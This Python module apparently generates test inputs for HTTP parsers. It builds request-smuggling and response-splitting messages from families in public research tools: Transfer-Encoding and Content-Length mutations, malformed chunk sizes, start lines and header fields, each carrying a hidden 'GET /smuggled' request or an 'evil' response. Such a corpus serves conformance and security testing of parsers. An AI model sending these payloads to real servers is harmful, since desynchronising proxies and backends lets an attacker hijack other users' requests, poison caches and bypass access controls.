"""Messages that two parsers may read as two different things: request smuggling, by the families of the public collections.

Facts only are taken over, each family made anew: the mutations of Transfer-Encoding of defparam/smuggler (byte by byte rather than
its selection), the permutations of PortSwigger's http-request-smuggler, the findings of the HTTP Garden about chunk sizes,
versions and line ends, the field names of D. Thatcher's "Practical HTTP header smuggling", the framing rules of cispa's
http-conformance.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n"
EVERY_BYTE = [bytes([n]) for n in range(256)]

# %s is any byte.
SMUGGLER = (
    b"Transfer-Encoding%s: chunked", b"%sTransfer-Encoding: chunked", b"Transfer-Encoding:%schunked",
    b"Transfer-Encoding: %schunked", b"Transfer-Encoding: chunked%s", b"X: X%sTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nX: X%s", b"Transfer-Encoding: chunked\r%s", b"X: X\r%sTransfer-Encoding: chunked",
)  # fmt: skip

PORTSWIGGER = (
    b"Transfer-Encoding: chunked", b"TRANSFER-ENCODING: CHUNKED", b"transfer-encoding: Chunked", b"Transfer-Encoding : chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-encoding: cow", b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: identity, chunked", b"Transfer-Encoding: chunked, identity", b"Transfer-Encoding: chunked, chunked",
    b"Transfer-Encoding: chunked, cow", b"Transfer-Encoding: cow, chunked", b"Transfer-Encoding: gzip, chunked",
    b"Transfer-Encoding: ,chunked", b"Transfer-Encoding: chunked,", b"Transfer-Encoding: , chunked ,", b"Transfer-Encoding:",
    b'Transfer-Encoding: "chunked"', b"Transfer-Encoding: 'chunked'", b"Transfer-Encoding: xchunked", b"Transfer-Encoding: chunk",
    b"Transfer-Encoding: chunked-false", b"Transfer-Encoding: chunked;q=1", b"Transfer-Encoding: chunked; x", b"TE: chunked",
    b"Transfer-Encoding\r\n : chunked", b"Transfer-Encoding:\r\n chunked", b"Transfer-Encoding:\n chunked", b"Transfer-Encoding: x\r\n chunked",
    b"Foo: bar\r\n Transfer-Encoding: chunked", b"Foo: bar\nTransfer-Encoding: chunked", b"Foo: bar\rTransfer-Encoding: chunked",
    b"Foo: bar\n\rTransfer-Encoding: chunked", b"Foo: bar\r\n\rTransfer-Encoding: chunked", b"Foo: bar\r\r\nTransfer-Encoding: chunked",
    b"Transfer_Encoding: chunked", b"Transfer Encoding: chunked", b"TransferEncoding: chunked", b"X-Transfer-Encoding: chunked",
    b"Content-Encoding: chunked", b"Transfer-\xcbncoding: chunked", b"Transfer-Encoding: \xe7hunked", b"Transfer-Encoding: chun\x08ked",
    b"Transfer-Encoding: \tchunked\t", b"Transfer-Encoding:chunked", b"Transfer-Encoding:    chunked", b"Transfer-Encoding chunked",
    b"Transfer-Encoding: chunked\x00", b"Transfer-Encoding\x00: chunked", b"Transfer-Encoding: chunked\r\nConnection: Transfer-Encoding",
    b"Connection: Content-Length\r\nTransfer-Encoding: chunked", b": chunked\r\nTransfer-Encoding: chunked", b"Transfer-Encoding:: chunked",
    b"[Transfer-Encoding]: chunked", b"Transfer-Encoding: chunked\r\n\tX: y", b"Transfer-Encoding;: chunked", b"Transfer-Encoding=chunked",
)  # fmt: skip

LENGTHS = (
    b"Content-Length: %d", b"Content-Length: +%d", b"Content-Length: -%d", b"Content-Length: %d, %%d", b"Content-Length: 0%d",
    b"Content-Length: 0\r\nContent-Length: %d", b"Content-Length: %d\r\nContent-Length: 0", b"Content-Length: %d\r\nContent-Length: %%d",
    b"Content-Length: %d.0", b"Content-Length: 0x%d", b"Content-Length: %de0", b"Content-Length: 0_%d", b"Content-Length: %d ", b"Content-Length:",
    b"Content-Length : %d", b"Content_Length: %d", b"CONTENT-LENGTH: %d", b" Content-Length: %d", b"Content-Length:\t%d", b'Content-Length: "%d"',
    b"Content-Length: %d;x", b"Content-Length: 18446744073709551616%d", b"Content-Length: \xd9\xa1%d", b"Content-Length: %d\x00", b"Content-Length\x0b: %d",
    b"Foo: bar\nContent-Length: %d", b"Foo: bar\rContent-Length: %d", b"Foo: bar\r\n Content-Length: %d", b"Content-Length:\r\n %d", b"Content-Length: %d\x0b",
    b"Connection: Content-Length\r\nContent-Length: %d",
)  # fmt: skip

CHUNK_LINES = (
    b"5", b"05", b"00000000000000000005", b"0x5", b"0X5", b"+5", b"-5", b" 5", b"5 ", b"\t5", b"5\t", b"0_5", b"5_", b"5;", b"5;a", b"5;a=b", b'5;a="b"',
    b"5;\x00", b"5;a\nb", b"5;a\rb", b"5\x00", b"5\x0b", b"5,", b"5.0", b"5h", b"5\xa0", b"ffffffffffffffff5", b"10000000000000005", b"", b";", b"\r\n5", b"five",
    b"5\n", b"5\r", b"5;\x7f", b"5 ;a", b"5;" + b"a" * 20000,
)  # fmt: skip

START_LINES = (
    b"POST /first HTTP/1.0", b"POST /first HTTP/1.2", b"POST /first HTTP/2.0", b"POST /first HTTP/0.9", b"POST /first HTTP/1.01", b"POST /first HTTP/01.1",
    b"POST /first HTTP/1.257", b"POST /first HTTP/257.1", b"POST /first HTTP/1.1 ", b"POST  /first HTTP/1.1", b"POST /first  HTTP/1.1", b"POST\t/first\tHTTP/1.1",
    b"POST /first", b" POST /first HTTP/1.1", b"post /first HTTP/1.1", b"POST /first http/1.1", b"POST /fi rst HTTP/1.1", b"POST /first\x00 HTTP/1.1",
    b"POST /first HTTP/1.1\r", b"POST /first HTTP/1.1\x00", b"\r\nPOST /first HTTP/1.1", b"\nPOST /first HTTP/1.1", b"\r\n\r\nPOST /first HTTP/1.1",
    b"\x00POST /first HTTP/1.1", b"P\xd6ST /first HTTP/1.1", b"POST /first HTTP/1,1", b"POST /first HTTP/1.", b"POST /first HTTP /1.1", b"POST /first HTTPS/1.1",
    b"POST http://b/first HTTP/1.1", b"POST //b/first HTTP/1.1", b"POST first HTTP/1.1", b"POST * HTTP/1.1", b"POST /first#x HTTP/1.1", b"POST /\xff HTTP/1.1",
)  # fmt: skip

FIELD_LINES = (
    b"", b"x", b":", b": x", b"x:", b"x :y", b" x: y", b"\tx: y", b"x: y\r\n z", b"x: y\r\n\tz", b"x: \x00", b"x: a\rb", b"x: a\nb", b"x\x00: y", b"x\xff: y", b"x: \xff",
    b"x: \x7f", b"x y: z", b"x/y: z", b"(x): y", b"\x0bx: y", b"Host: b", b"Host : b", b"Host\x00: b", b"Host:", b"hOsT: a", b"x: y\r\r\nz: w", b"x: y\n\r\nGET /smuggled HTTP/1.1",
    b"x: y\r\n\n", b"x: y\n\n", b"x: y\r\r", b"Expect: 100-continue", b"Expect: 100-Continue, x", b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AA",
    b"Connection: close, Host", b"Connection: Transfer-Encoding", b"Trailer: Content-Length",
)  # fmt: skip


def _both_ways(field: bytes) -> Iterator[bytes]:
    """A request whose body holds another, to one that reads the length only, and to one that reads chunks only."""
    short = b"0\r\n\r\n" + SMUGGLED
    yield b"POST /first HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n%s\r\n\r\n%s" % (len(short), field, short)
    chunk = b"%x\r\n" % len(SMUGGLED)
    body = chunk + SMUGGLED + b"\r\n0\r\n\r\n"
    yield b"POST /first HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n%s\r\n\r\n%s" % (len(chunk), field, body)
    yield b"POST /first HTTP/1.1\r\nHost: a\r\n%s\r\n\r\n%s" % (field, body)


def _numbered(line: bytes, n: int) -> bytes:
    digits = b"%d" % n
    return line.replace(b"%%d", digits).replace(b"%d", digits)


def requests() -> Iterator[bytes]:
    """Bytes of a client's connection."""
    yield from _codings_and_lengths()
    yield from _chunks()
    yield from _lines()
    yield from _names()


def _codings_and_lengths() -> Iterator[bytes]:
    for family in SMUGGLER:
        for byte in EVERY_BYTE:
            yield from _both_ways(family.replace(b"%s", byte))
    for field in PORTSWIGGER:
        yield from _both_ways(field)
        yield from _both_ways(field + b"\r\nX: y")
    for line in LENGTHS:
        yield b"POST /first HTTP/1.1\r\nHost: a\r\n" + _numbered(line, 5) + b"\r\n\r\nhello" + SMUGGLED
        yield b"GET /first HTTP/1.1\r\nHost: a\r\n" + _numbered(line, len(SMUGGLED)) + b"\r\n\r\n" + SMUGGLED


def _chunks() -> Iterator[bytes]:
    chunked = b"POST /first HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
    for line in CHUNK_LINES:
        yield chunked + line + b"\r\nhello\r\n0\r\n\r\n" + SMUGGLED
        yield chunked + line.replace(b"5", b"0") + b"\r\n\r\n" + SMUGGLED
        yield chunked + line + b"\nhello\r\n0\r\n\r\n" + SMUGGLED
    for end in (b"", b"\r", b"\n", b"XX", b"\r\r\n", b"\n\r", b"\r\n\r\n", b"\x00\r\n", b"; \r\n"):
        yield chunked + b"5\r\nhello" + end + b"0\r\n\r\n" + SMUGGLED
        yield chunked + b"5\r\nhello\r\n0" + end + b"\r\n" + SMUGGLED
        yield chunked + b"5\r\nhello\r\n0\r\n" + end + SMUGGLED
    for field in (*FIELD_LINES, b"Content-Length: 5", b"Host: b", b"Authorization: x"):
        yield chunked + b"5\r\nhello\r\n0\r\n" + field + b"\r\n\r\n" + SMUGGLED


def _lines() -> Iterator[bytes]:
    for start in START_LINES:
        for head in (
            b"Content-Length: 5\r\n\r\nhello",
            b"Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
            b"\r\n",
        ):
            yield start + b"\r\nHost: a\r\n" + head + SMUGGLED
    for field in FIELD_LINES:
        for before, after in ((b"", b"\r\n"), (b"Content-Length: 5\r\n", b"\r\nhello")):
            yield b"POST /first HTTP/1.1\r\nHost: a\r\n" + before + field + b"\r\n" + after + SMUGGLED
            yield b"POST /first HTTP/1.1\r\n" + field + b"\r\nHost: a\r\n" + before + after + SMUGGLED


def _names() -> Iterator[bytes]:
    for name in (b"Content-Length", b"Host", b"X-Forwarded-For", b"Connection"):
        for byte in EVERY_BYTE:
            value = {b"Content-Length": b"5", b"Connection": b"X-Forwarded-For"}.get(name, b"evil")
            rest = b": " + value + b"\r\n\r\nhello" + SMUGGLED
            yield b"POST /first HTTP/1.1\r\nHost: a\r\n" + name + byte + rest
            yield b"POST /first HTTP/1.1\r\nHost: a\r\n" + byte + name + rest


def responses() -> Iterator[bytes]:
    """Bytes of a backend's connection in answer to one GET: a response that may hold another."""
    evil = b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nevil"
    for family in SMUGGLER:
        for byte in EVERY_BYTE:
            yield b"HTTP/1.1 200 OK\r\n" + family.replace(b"%s", byte) + b"\r\n\r\n5\r\nhello\r\n0\r\n\r\n" + evil
    for field in PORTSWIGGER:
        yield b"HTTP/1.1 200 OK\r\n" + field + b"\r\n\r\n5\r\nhello\r\n0\r\n\r\n" + evil
        yield b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n" + field + b"\r\n\r\n5\r\nhello\r\n0\r\n\r\n" + evil
    for line in LENGTHS:
        yield b"HTTP/1.1 200 OK\r\n" + _numbered(line, 5) + b"\r\n\r\nhello" + evil
    for line in CHUNK_LINES:
        yield b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n" + line + b"\r\nhello\r\n0\r\n\r\n" + evil
    for field in FIELD_LINES:
        yield b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n" + field + b"\r\n\r\nhello" + evil
    for status in (b"100 Continue", b"102 Processing", b"199 x", b"204 No Content", b"304 Not Modified", b"205 Reset Content", b"200", b"200 ", b"2000 OK", b"20 OK",
                   b"+200 OK", b"000 x", b"099 x", b"600 x", b"999 x", b"200\tOK", b"200 O\x00K", b"200 O\rK", b"200  OK", b"\xb2\xb0\xb0 OK"):  # fmt: skip
        yield b"HTTP/1.1 " + status + b"\r\nContent-Length: 5\r\n\r\nhello" + evil
        yield b"HTTP/1.1 " + status + b"\r\n\r\n" + evil
    for version in (
        b"HTTP/1.0",
        b"HTTP/1.2",
        b"HTTP/2.0",
        b"HTTP/0.9",
        b"HTTP/1.01",
        b"HTTP/1.257",
        b"http/1.1",
        b"HTTP/1.1 ",
        b"ICY",
        b"HTTP",
        b"",
        b"\r\nHTTP/1.1",
        b"\x00HTTP/1.1",
    ):
        yield version + b" 200 OK\r\nContent-Length: 5\r\n\r\nhello" + evil
        yield version + b" 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n" + evil
